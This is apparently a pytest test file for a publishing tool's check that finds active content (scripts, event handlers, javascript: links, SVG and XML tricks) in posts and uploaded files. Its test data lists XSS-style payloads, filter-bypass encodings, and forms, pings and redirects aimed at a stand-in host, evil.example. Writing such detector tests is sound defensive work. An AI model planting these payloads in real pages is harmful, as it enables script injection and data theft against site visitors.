"""Active content is found in texts and files, parsed as browsers do."""

import re
from typing import Any

import pytest

from publish.checks.active_content import active_parts

RUNS_CODE = "runs code in the reader's browser: remove it"
SVG = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>"
ACTIVE = [
    "<script src='/x.js'></script>",
    "<ScRiPt\n>alert(1)</sCrIpT\n>",
    "<script/src=x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<META\nHTTP-EQUIV = 'Refresh' content=1>",
    "<base href='https://evil.example/'>",
    "<object data='/x.swf'></object>",
    "<embed src='/x'>",
    "<applet code='X'></applet>",
    "<form action='https://evil.example/f'><input name=email></form>",
    "<form action='//evil.example/f'></form>",
    "<form action='/\\evil.example'></form>",
    "<form action='\thttps:evil.example'></form>",
    "<button formaction='https://evil.example'>Send</button>",
    "<input type=submit formaction='https://evil.example'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java&#115;cript&colon;alert(1)'>x</a>",
    "<a href='  java\nscript:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<p ONLOAD = 'alert(1)'>x</p>",
    "<A HREF=/ PING=https://evil.example/p>x</A>",
    "<a href=JAVASCRIPT:alert(1)>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<b>x</b>'>x</a>",
    "<a href='/' onclick='alert(1)'>x</a>",
    "<img alt='' src='/images/dot.svg' onerror=alert(1)>",
    "<iframe srcdoc='<b>x</b>'></iframe>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><animate attributeName=href values='/;javascript:alert(1)'></animate></svg>",
    "<a href='/' ping='https://evil.example/p'>x</a>",
    "<link rel=preconnect href='https://evil.example'>",
    "<!--><script>alert(1)</script>-->",
    "<!-- a --!><script>alert(1)</script>-->",
    "<style></style x><script>alert(1)</script>",
    "<div title='<b'><script src=x",
]
HARMLESS = [
    "<form action='/search/'><input name=q></form>",
    "<details><summary>More</summary>x</details>",
    "<img alt='' src='data:image/png;base64,AAAA'>",
    "<a href='https://other.example/'>x</a>",
    "<!-- <script>alert(1)</script> -->",
    "<p title='javascript: the good parts'>x</p>",
    "<meta itemprop='name' content='x'>",
    "once = 1, one=2, `javascript:` is a scheme",
]


BLOCKED = {
    "<iframe src='https://video.example/1'></iframe>": ("blocked", "`<iframe>` stays empty"),
    "<IFRAME src=/about/>": ("blocked", "`<iframe>` stays empty"),
    "<video controls><source src='/images/a.mp4'></video>": ("blocked", "`<video>` stays empty"),
    "<audio src='/images/a.mp3'></audio>": ("blocked", "`<audio>` stays empty"),
    "<style>p { color: red }</style>": ("blocked-style", "`<style>` has no effect"),
    "<p style='color: red'>x</p>": ("blocked-style", '`style="..."` has no effect'),
    "<p\nSTYLE=color:red>x</p>": ("blocked-style", '`style="..."` has no effect'),
}


@pytest.mark.parametrize("html", ACTIVE)
def test_active_content_is_found(html: str) -> None:
    assert any(part.rule == "active-content" for part in active_parts(html))


@pytest.mark.parametrize("html", BLOCKED)
def test_what_the_policy_of_the_site_leaves_empty_is_found(html: str) -> None:
    rule, start = BLOCKED[html]
    (part,) = active_parts(f"x\n{html}", 7)
    assert (part.rule, part.line, part.message.startswith(start)) == (rule, 8, True)


def test_a_blocked_frame_is_an_error_and_a_style_a_warning_with_their_lines(desk: Any) -> None:
    desk.post("Text.\n\n<iframe src='https://a.example/'></iframe>\n\n<p style='x'>A</p>")
    (error,), (warning,) = desk.errors(), desk.warnings()
    assert error.startswith("content/posts/post.md:8: `<iframe>` stays empty, because the site's ")
    assert warning.startswith('content/posts/post.md:10: `style="..."` has no effect')


def test_a_blocked_frame_in_a_draft_is_a_warning(desk: Any) -> None:
    desk.post("<iframe src='https://a.example/'></iframe>", status="draft", preview="x" * 20)
    assert desk.errors() == []
    assert any("`<iframe>` stays empty" in line for line in desk.warnings())


@pytest.mark.parametrize("html", HARMLESS)
def test_other_html_is_accepted(desk: Any, html: str) -> None:
    desk.post(f"Text.\n\n{html}\n")
    assert [line for line in desk.messages() if "browser" in line or "sends" in line] == []


def test_active_raw_html_is_an_error_with_its_line(desk: Any) -> None:
    desk.post("Text.\n\n<p>\n<script>alert(1)</script>\n</p>\n\nSo <b onclick=x>this</b>.")
    assert desk.messages() == [f"9: `<script>` {RUNS_CODE}", f"12: `onclick` {RUNS_CODE}"]


@pytest.mark.parametrize("link", ["[x](javascript:alert(1))", "[x](<java&#115;cript:alert(1)>)"])
def test_a_link_that_runs_code_is_an_error(desk: Any, link: str) -> None:
    desk.post(link)
    assert desk.messages() == [f"6: `javascript:alert(1)` {RUNS_CODE}"]


def test_active_content_is_an_error_in_a_draft_too(desk: Any) -> None:
    desk.post("<script>x</script>", status="draft", preview="a" * 20)
    assert desk.messages() == [f"8: `<script>` {RUNS_CODE}"]


def test_a_setting_makes_active_content_a_warning(desk: Any) -> None:
    desk.settings["WRITING_RULES"] = {"active-content": "warning"}
    desk.post("<script>x</script>")
    assert desk.errors() == []
    assert f"content/posts/post.md:6: `<script>` {RUNS_CODE}" in desk.warnings()


def test_a_form_to_the_full_address_of_this_site_is_accepted(desk: Any) -> None:
    desk.settings["SITEURL"] = "https://www.example.com"
    desk.post("<form action='https://www.example.com/f/'></form>")
    assert desk.messages() == []
    desk.post("<form action='https://www.example.com.evil.example/f/'></form>")
    assert len(desk.messages()) == 1


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.js", "x"),
        ("a.MJS", "x"),
        ("a.wasm", "x"),
        ("a.html", "<p><script>x</script>"),
        ("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>x</script></svg>"),
        ("a.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>"),
        ("a.svg", "<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:script/></s:svg>"),
        ("a.xml", "<!DOCTYPE x [<!ENTITY x '<script/>'>]><x>&x;</x>"),
        ("a.svg", "<?xml-stylesheet href='a.xsl' type='text/xsl'?><svg/>"),
        ("a.xml", "<x><script xmlns='http://www.w3.org/1999/xhtml'>x</script></x>"),
    ],
)
def test_a_file_that_contains_a_program_is_an_error(desk: Any, name: str, text: str) -> None:
    desk.write(f"content/images/{name}", text)
    [message] = [line for line in desk.errors() if "program" in line]
    assert re.match(rf"content/images/{name}(:1)?: ", message)


def test_active_content_of_a_file_is_an_error_with_its_line(desk: Any) -> None:
    desk.write("content/images/a.svg", f"{SVG}\n<g>\n<script>x</script></g><script/></svg>")
    desk.write("content/images/b.html", "<p>\n<p>\n<script>x</script>")
    message = f"contains a program: `<script>` {RUNS_CODE}"
    assert desk.errors() == [f"content/images/{name}:3: {message}" for name in ("a.svg", "b.html")]


@pytest.mark.parametrize("level", ["error", "off"])
def test_a_drawing_that_declares_entities_is_one_error(desk: Any, level: str) -> None:
    desk.settings["WRITING_RULES"] = {"file-content": level}
    desk.write("content/images/a.svg", "<!DOCTYPE svg [<!ENTITY x '<script/>'>]><svg>&x;</svg>")
    (message,) = desk.errors()
    assert "it declares entities, which can hide a script: save it without them" in message


@pytest.mark.parametrize(
    ("part", "address"),
    [
        ("<image href='https://other.example/a.png'/>", "https://other.example/a.png"),
        ("<image xlink:href='photo.jpg'/>", "photo.jpg"),
        ("<use href='/images/icons.svg#arrow'/>", "/images/icons.svg#arrow"),
        ("<feImage href='a.png'/>", "a.png"),
        ("<path fill='url(b.svg#c)'/>", "b.svg#c"),
        ('<path style="fill: url( &quot;b.svg#c&quot; )"/>', "b.svg#c"),
        ("<style>@import 'https://fonts.example/css';</style>", "https://fonts.example/css"),
        ("<style><![CDATA[p { src: url(a.woff2) }]]></style>", "a.woff2"),
    ],
)
def test_a_file_that_a_drawing_would_load_is_an_error(desk: Any, part: str, address: str) -> None:
    desk.write("content/images/a.svg", f"{SVG}\n{part}{part}</svg>")
    assert desk.errors() == [
        f"content/images/a.svg:2: `{address}` stays empty, because browsers load no other file "
        "for a drawing: put it into the drawing"
    ]


def test_a_drawing_with_a_million_blanks_is_read_at_once(desk: Any) -> None:
    desk.write("content/images/a.svg", f"{SVG}<style>url({' ' * 1_000_000})</style></svg>")
    assert desk.errors() == []


def test_a_style_sheet_of_a_drawing_is_an_error(desk: Any) -> None:
    sheet = "<?xml-stylesheet type='text/css' href='a.css'?>"
    desk.write("content/images/a.svg", f"{sheet}{SVG}</svg>")
    (message,) = desk.errors()
    assert message.startswith("content/images/a.svg:1: `a.css` stays empty")


def test_what_is_in_a_drawing_itself_is_accepted(desk: Any) -> None:
    desk.write(
        "content/images/a.svg",
        f"{SVG}<style>p {{ fill: url(#c); src: url('data:font/woff2;base64,AA') }}</style>"
        "<image href='data:image/png;base64,AAAA'/><use href='#c'/><path fill='url(#c)'/>"
        "<a href='https://other.example/'><text>url(a.png) @import</text></a></svg>",
    )
    assert (desk.errors(), desk.warnings()) == ([], [])


def test_html_in_a_drawing_is_a_warning_and_a_frame_in_it_an_error(desk: Any) -> None:
    desk.write(
        "content/images/a.svg",
        f"{SVG}\n<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>A"
        "<iframe src='https://other.example'/></p></foreignObject></svg>",
    )
    (error,), (warning,) = desk.errors(), desk.warnings()
    assert error.startswith("content/images/a.svg:2: `<iframe>` stays empty")
    assert warning.startswith("content/images/a.svg:2: `<foreignObject>` shows HTML, which many ")


def test_a_published_html_file_with_a_frame_or_style_is_found(desk: Any) -> None:
    desk.write("content/images/a.html", "<style>p {}</style>\n<iframe src='/about/'></iframe>")
    (error,), (warning,) = desk.errors(), desk.warnings()
    assert error.startswith("content/images/a.html:2: `<iframe>` stays empty")
    assert warning.startswith("content/images/a.html:1: `<style>` has no effect")


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.svg", "<?xml version='1.0'?><svg><a href='https://x.example'><text/></a></svg>"),
        ("a.html", "<h1>Terms</h1>"),
        ("a.css", "p {}"),
        ("a.txt", "<script>"),
    ],
)
def test_a_file_without_a_program_is_accepted(desk: Any, name: str, text: str) -> None:
    desk.write(f"content/images/{name}", text)
    assert [line for line in desk.errors() if "program" in line] == []


def test_a_number_with_thousands_of_digits_hides_no_script(desk: Any) -> None:
    desk.write("content/images/a.html", f"<p title='&#{'9' * 6000};'>\n<script>x</script>")
    (message,) = desk.errors()
    assert message.startswith("content/images/a.html:2: contains a program: `<script>`")


def test_attribute_lists_are_searched_only_where_they_belong_to_an_element(desk: Any) -> None:
    desk.post("A *b*{: onclick=x }.\n\n## C {: onload=y }\n\nD\n{: onblur=z }")
    assert desk.messages() == [
        f"6: `onclick` {RUNS_CODE}",
        f"8: `onload` {RUNS_CODE}",
        f"11: `onblur` {RUNS_CODE}",
    ]
    desk.post("A {: onclick=x } and `{: onload=y }` and {onblur}.")
    assert desk.messages() == []
